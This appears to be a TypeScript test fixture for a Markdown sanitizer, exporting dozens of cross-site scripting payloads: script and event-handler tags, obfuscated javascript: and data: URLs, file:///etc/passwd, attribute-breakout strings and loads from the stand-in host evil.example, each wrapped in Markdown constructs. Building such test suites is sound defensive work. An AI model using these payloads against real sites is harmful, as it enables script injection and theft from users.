/**
 * Texts that have run scripts or contacted other hosts on sites that show Markdown: raw HTML, URLs in many spellings,
 * and both of these inside Markdown constructs. Each would set `window.pwned` or load something from evil.example.
 */
const RUN = 'window.pwned=1';

const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="https://evil.example/x.mp3" autoplay></audio>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?php echo 1 ?><script>${RUN}</script>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `</div></div></main><script>${RUN}</script>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&#13;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `&#32;javascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `VBScript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/x`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `/\\\\evil.example/x`,
  `\\\\\\\\evil.example\\\\x`,
  `https:evil.example`,
  `http://evil.example/x`,
  `https://evil.example/" onmouseover="${RUN}`,
  `https://evil.example/' onmouseover='${RUN}`,
  `/content/images/../../evil`,
  `/content/images/a?x=//evil.example`,
  `https://evil.example/content/images/a`,
  `//evil.example/content/images/a`,
];

/** The ways to put an address into a text. */
const AROUND: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `![x](<${address}>)`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `[x][r]\n\n[r]: <${address}>`,
  (address) => `![x][r]\n\n[r]: <${address}>`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `> - [x](<${address}>)`,
  (address) => `| a |\n| - |\n| [x](<${address}>) |`,
  (address) => `x[^1]\n\n[^1]: [y](<${address}>)`,
  (address) => `[x](<${address}> "title\\" onclick=\\"${RUN}")`,
];

/** The ways to put HTML into a text: alone, and inside Markdown constructs. */
const NESTED: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `a ${html} b`,
  (html) => `> ${html}`,
  (html) => `- ${html}`,
  (html) => `# ${html}`,
  (html) => `**${html}**`,
  (html) => `[${html}](https://evil.example/)`,
  (html) => `![${html}](x)`,
  (html) => `| a |\n| - |\n| ${html} |`,
  (html) => `x[^1]\n\n[^1]: ${html}`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html) => `\`${html}\``,
  (html) => `- [ ] ${html}`,
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&#60;').replaceAll('"', '&quot;'),
  (html) => html.replaceAll('<', '\\<'),
];

/** Attacks on attributes that Markdown generates: names, classes, languages of code, and bare links. */
const OWN = [
  `\`\`\`js" onclick="${RUN}\nx\n\`\`\``,
  `\`\`\`<img src=x onerror=${RUN}>\nx\n\`\`\``,
  `[x](https://a.example "<img src=x onerror=${RUN}>")`,
  `[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: y`,
  `[^__proto__]\n\n[^__proto__]: y\n\n[x][__proto__] [y][constructor]`,
  `www.evil.example/<img src=x onerror=${RUN}>`,
  `https://evil.example/<script>${RUN}</script>`,
  `a@evil.example"onclick="${RUN}`,
  `<https://evil.example/"onclick="${RUN}>`,
  `<a@b.example"onclick=${RUN}>`,
  `[<https://evil.example/>](javascript:${RUN})`,
  `![a](x "b" onerror=${RUN})`,
  `[x](javascript:${RUN}`,
  `[x]( javascript:${RUN} )`,
  `{onclick=${RUN}}`,
  `# x {#id onclick=${RUN}}`,
  `<http://x:@evil.example/&colon;javascript:${RUN}>`,
];

interface Attack {
  readonly name: string;
  /** The texts with the attack, one for each context. */
  readonly texts: readonly string[];
}

export const ATTACKS: readonly Attack[] = [
  ...HTML.map((html) => ({ name: html, texts: NESTED.map((nest) => nest(html)) })),
  ...ADDRESSES.map((address) => ({
    name: address,
    texts: AROUND.map((around) => around(address)),
  })),
  ...OWN.map((text) => ({ name: text, texts: [text] })),
];
